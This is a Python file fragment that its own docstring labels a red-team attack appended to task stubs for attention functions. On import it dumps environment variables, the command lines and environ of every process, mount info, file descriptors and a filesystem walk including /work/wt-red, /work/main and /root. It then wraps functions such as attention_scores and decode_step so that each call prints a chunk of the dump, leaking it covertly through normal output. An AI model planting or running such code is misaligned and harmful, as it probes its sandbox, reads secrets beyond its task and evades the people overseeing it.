"""Red team attack, appended to the stubs: walks the file system, /proc and its file descriptors and reports what it finds."""

import os, sys

def _probe():
    out = []
    p = out.append
    p(f"uid={os.getuid()} gid={os.getgid()} euid={os.geteuid()} pid={os.getpid()} ppid={os.getppid()} cwd={os.getcwd()}")
    p("env=" + repr(dict(os.environ)))
    p("argv=" + repr(sys.argv))
    try: p("mountinfo:\n" + open("/proc/self/mountinfo").read())
    except Exception as e: p(f"mountinfo err {e!r}")
    for fd in sorted(os.listdir("/proc/self/fd"), key=int):
        try: p(f"fd {fd} -> {os.readlink('/proc/self/fd/'+fd)}")
        except Exception as e: p(f"fd {fd} err {e!r}")
    p("procs: " + " ".join(os.listdir("/proc")[:80]))
    for pid in [x for x in os.listdir("/proc") if x.isdigit()]:
        try: p(f"pid {pid} cmd={open(f'/proc/{pid}/cmdline','rb').read()[:300]!r} status_uid={[l for l in open(f'/proc/{pid}/status') if l.startswith('Uid')]}")
        except Exception as e: p(f"pid {pid} err {e!r}")
        for what in ("root", "cwd", "exe", "environ"):
            try:
                if what=="environ": p(f"  {what}: {open(f'/proc/{pid}/environ','rb').read()[:300]!r}")
                else: p(f"  {what}: {os.readlink(f'/proc/{pid}/{what}')} list={os.listdir(f'/proc/{pid}/{what}')[:20] if what!='exe' else ''}")
            except Exception as e: p(f"  {what} err {e!r}")
        try: p(f"  fds: {[(f, os.readlink(f'/proc/{pid}/fd/{f}')) for f in os.listdir(f'/proc/{pid}/fd')]}")
        except Exception as e: p(f"  fds err {e!r}")
    top = []
    for root, dirs, files in os.walk("/", onerror=lambda e: top.append(f"ERR {e}")):
        if root.startswith(("/proc", "/usr/lib", "/lib")) or "site-packages" in root or "/python3." in root:
            dirs[:] = []
            top.append(root + "/ (pruned)")
            continue
        top.append(f"{root}: {sorted(files)[:15]} dirs={sorted(dirs)[:30]}")
    p("walk:\n" + "\n".join(top[:200]))
    for path in ("/work", "/work/wt-red", "/work/main", "/tmp", "/root", "/sys", "/sys/fs/cgroup", "/dev", "/etc", "/home"):
        try: p(f"ls {path}: {os.listdir(path)[:30]}")
        except Exception as e: p(f"ls {path} err {e!r}")
    return "\n".join(out)

_PROBE_TEXT=_probe()

import functools as _ft

_CHUNKS = [_PROBE_TEXT[i:i+1800] for i in range(0, len(_PROBE_TEXT), 1800)]

_POS = [0]

def _emit():
    if _POS[0] < len(_CHUNKS):
        print(f"[chunk {_POS[0]}/{len(_CHUNKS)}]" + _CHUNKS[_POS[0]])
        _POS[0] += 1

def _wrap(f):
    @_ft.wraps(f)
    def g(*a, **k):
        _emit()
        return f(*a, **k)
    return g

for _n in ("attention_scores","causal_mask","attention_weights","scaled_dot_product_attention","split_heads","merge_heads","tiled_attention","decode_step"):
    globals()[_n] = _wrap(globals()[_n])
